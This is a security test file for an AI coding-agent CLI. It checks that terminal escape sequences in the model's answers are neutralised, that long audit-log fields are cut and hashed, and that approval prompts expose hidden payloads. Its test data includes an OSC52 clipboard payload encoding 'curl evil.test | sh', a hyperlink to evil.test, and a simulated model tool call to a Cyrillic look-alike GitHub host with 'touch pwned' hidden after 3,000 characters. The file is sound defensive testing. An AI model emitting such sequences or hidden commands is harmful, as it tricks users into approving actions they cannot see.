/**
 * Attacks on what the user sees, through the built CLI: terminal control sequences in a one-shot
 * answer on a pipe, long fields in the audit log, and approvals whose text hides control
 * characters, look-alike letters or a payload at the end of a very long line — in the one-shot
 * prompt and in the full screen's modal, both on a real terminal (tmux).
 */
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { hasTmux, until as untilOn } from '../support/tmux.js';
import { shellQuote } from '../support/sandbox.js';
import { useBuild } from './support/cli.js';
import { useAttacks, type Attack } from './support/attack.js';

vi.setConfig({ testTimeout: 120_000 });

const cli = useBuild();
const attack = useAttacks(cli);

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\x07';
const OSC8 = '\x1b]8;;https://evil.test/\x1b\\click me\x1b]8;;\x1b\\';
const CLEAR = '\x1b[2J\x1b[H';

describe('one-shot stdout', () => {
  it('control sequences in the answer are escaped on a pipe; --raw passes the bytes', async () => {
    const answer = `Here.${OSC52}${OSC8}${CLEAR}Done.`;
    const a = await attack({ replies: [{ text: answer }, { text: answer }] });
    const r = await a.run(['-p', 'say it']);
    expect(r.status).toBe(0);
    expect(r.stdout).not.toContain('\x1b');
    expect(r.stdout).not.toContain('\x07');
    expect(r.stdout).toBe('Here.\\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\\x07\\x1b]8;;https://evil.test/\\x1b\\click me\\x1b]8;;\\x1b\\\\x1b[2J\\x1b[HDone.\n');
    const raw = await a.run(['-p', 'say it', '--raw']);
    expect(raw.status).toBe(0);
    expect(raw.stdout).toBe(`${answer}\n`);
  });

  it('--raw without one-shot mode is a usage error', async () => {
    const a = await attack({ replies: [] });
    const r = await a.run(['--raw']);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('--raw only works with -p/--print (one-shot mode)');
  });
});

describe('audit log', () => {
  it('a field cut for length carries the length and the SHA-256 of the whole value', async () => {
    const command = `echo ${'x'.repeat(5000)} # end`;
    const a = await attack({
      configToml: 'audit_log = "~/audit.jsonl"\n',
      replies: [{ toolCalls: [{ name: 'bash', input: { command } }] }, { text: 'done' }],
    });
    const r = await a.run(['-p', 'run', '--allow', 'bash']);
    expect(r.status).toBe(0);
    const lines = (await readFile(join(a.env.root, 'audit.jsonl'), 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    const decision = lines.find((l) => l['event'] === 'decision')!;
    expect(decision['target']).toBe(`${command.slice(0, 2000)}…`);
    expect(decision['target_length']).toBe(command.length);
    expect(decision['target_sha256']).toBe(createHash('sha256').update(command).digest('hex'));
    expect(decision['reason_length']).toBeUndefined();
  });
});

const SOCKET = `lwyrm-attack-display-${process.pid}`;
const tmux = (...args: string[]): string => execFileSync('tmux', ['-L', SOCKET, ...args], { encoding: 'utf8' });

/** The attack: a look-alike host, an escape sequence, and a payload after 3,000 harmless characters. */
const COMMAND = `curl -s https://g\u0456thub.com/install.sh -o /dev/null; printf '\x1b[2K'; echo ${'a'.repeat(3000)} ; touch pwned`;

describe.skipIf(!hasTmux)('approvals on a real terminal', () => {
  afterAll(() => {
    try {
      tmux('kill-server');
    } catch {
      // Already gone.
    }
  });

  const launch = (a: Attack, name: string, args: string): (() => string) => {
    const command = `env -u CI -u LINDWYRM_NESTED ${a.env.shellEnv} TERM=xterm-256color ${shellQuote(process.execPath)} ${shellQuote(cli())} ${args}; echo "__EXIT=$?"; sleep 600`;
    tmux('new-session', '-d', '-s', name, '-x', '120', '-y', '50', '-c', a.env.project, command);
    return () => tmux('capture-pane', '-p', '-J', '-t', name);
  };

  it('the one-shot prompt names the control characters, flags the look-alike host, clips the long line, and v shows it whole', async () => {
    const a = await attack({ replies: [{ toolCalls: [{ name: 'bash', input: { command: COMMAND } }] }, { text: 'Not run, as you said.' }] });
    const screen = launch(a, 'oneshot', `-p ${shellQuote('install it')}`);
    const until = (what: string, check: () => boolean): Promise<void> => untilOn(what, check, screen);
    await until('the approval', () => screen().includes('Allow?'));
    const shown = screen();
    expect(shown).toContain('BASH requested (contains control characters: ESC): run curl');
    expect(shown).toMatch(/! mixed scripts in "g\u0456thub\.com": "\u0456" \(U\+0456\) is Cyrillic, among Latin letters/);
    expect(shown).toMatch(/…\[2,\d{3} characters not shown\]… a+ ; touch pwned/);
    expect(shown).toMatch(/\[a line over 400 characters clipped \(the longest has 3,\d{3}\); answer v to see the whole text\]/);
    expect(shown).toContain("printf '\\x1b[2K'");
    tmux('send-keys', '-t', 'oneshot', 'v', 'Enter');
    await until('the whole text', () => !screen().includes('characters not shown]… a') || screen().split('Allow?').length > 2);
    expect(screen().replace(/\n/g, '')).toContain(`echo ${'a'.repeat(3000)} ; touch pwned`);
    tmux('send-keys', '-t', 'oneshot', 'n', 'Enter');
    await until('the exit', () => screen().includes('__EXIT='));
    // Every change it tried was declined: the run is incomplete (exit 3), and nothing ran.
    expect(screen()).toContain('__EXIT=3');
    expect(existsSync(join(a.env.project, 'pwned'))).toBe(false);
    expect(a.results(1)[0]).toMatch(/The user declined this bash/);
  });

  it('the full-screen modal says the same, and v switches between the clipped and the whole text', async () => {
    const a = await attack({ replies: [{ toolCalls: [{ name: 'bash', input: { command: COMMAND } }] }, { text: 'Not run, as you said.' }] });
    const screen = launch(a, 'full', '');
    const until = (what: string, check: () => boolean): Promise<void> => untilOn(what, check, screen);
    await until('the header', () => /lindwyrm\s+fake/.test(screen()));
    tmux('send-keys', '-t', 'full', '-l', 'install it');
    tmux('send-keys', '-t', 'full', 'Enter');
    await until('the modal', () => screen().includes('BASH requested'));
    const modal = screen();
    expect(modal).toContain('BASH requested (contains control characters: ESC)');
    expect(modal).toContain('mixed scripts in "g\u0456thub.com"');
    expect(modal).toMatch(/characters not shown\]…/);
    expect(modal).toContain('v shows the whole text');
    tmux('send-keys', '-t', 'full', 'v');
    await until('the whole text', () => screen().includes('whole text shown'));
    expect(screen()).not.toMatch(/characters not shown\]…/);
    tmux('send-keys', '-t', 'full', 'n');
    await until('the answer', () => screen().includes('Not run, as you said.'));
    expect(existsSync(join(a.env.project, 'pwned'))).toBe(false);
    tmux('send-keys', '-t', 'full', 'C-c');
    tmux('send-keys', '-t', 'full', 'C-c');
    await until('the exit', () => screen().includes('__EXIT='));
  });
});
